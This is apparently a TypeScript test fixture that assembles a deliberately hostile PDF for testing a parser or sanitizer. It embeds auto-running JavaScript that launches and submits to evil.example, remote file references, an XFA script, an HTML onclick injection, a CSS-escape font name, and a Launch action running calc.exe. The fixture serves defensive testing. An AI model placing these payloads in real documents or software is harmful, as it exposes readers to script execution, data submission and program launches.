import { pdfOf, stream } from "./long-pdf.ts";

const SCRIPT =
  "/S /JavaScript /JS (app.alert('pwned'); app.launchURL('https://evil.example/js', true); this.submitForm('https://evil.example/form');)";
const REMOTE = "<< /FS /URL /F (https://evil.example/remote) >>";

/** A PDF that tries what the format offers: scripts, forms, links, launches, and parts of it that lie elsewhere. */
export function hostilePdf(): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${SCRIPT} >> /AA << /WC << ${SCRIPT} >> >>
        /Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>
        /URI << /Base (https://evil.example/) >>
        /AcroForm << /Fields [6 0 R] /XFA 10 0 R /NeedAppearances true /CO [6 0 R] >> >>`,
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O << ${SCRIPT} >> >>
        /Resources << /Font << /F1 5 0 R /F2 8 0 R >> /XObject << /I 7 0 R >> >>
        /Annots [6 0 R 11 0 R 12 0 R 13 0 R] >>`,
    stream(
      "",
      "BT /F1 12 Tf 72 720 Td (The treasure is buried under the oak.) Tj ET BT /F2 12 Tf 72 690 Td (<b onclick=pwned>mark</b>) Tj ET q 90 0 0 90 72 500 cm /I Do Q",
    ),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (q) /V (typed) /Rect [72 600 300 620] /AA << /F << ${SCRIPT} >> /C << ${SCRIPT} >> >> /A << ${SCRIPT} >> >>`,
    stream(
      `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F ${REMOTE}`,
      "x".repeat(192),
    ),
    "<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 32 /LastChar 32 /Widths [500] /FontDescriptor 9 0 R >>",
    `<< /Type /FontDescriptor /FontName /Evil\\051\\073src\\072url\\050https\\072evil.example\\051 /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 << /F ${REMOTE} /Length 0 >> >>`,
    stream(
      "",
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert(1)</script><draw><value><image href="https://evil.example/xfa.png"/></value></draw></template></xdp:xdp>',
    ),
    "<< /Type /Annot /Subtype /Link /Rect [60 700 560 740] /A << /S /URI /URI (https://evil.example/link) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [60 400 560 440] /A << /S /Launch /F (calc.exe) >> >>",
    `<< /Type /Annot /Subtype /RichMedia /Rect [60 300 560 340] /RichMediaContent << /Assets << /Names [(a) ${REMOTE}] >> >> >>`,
  ]);
}
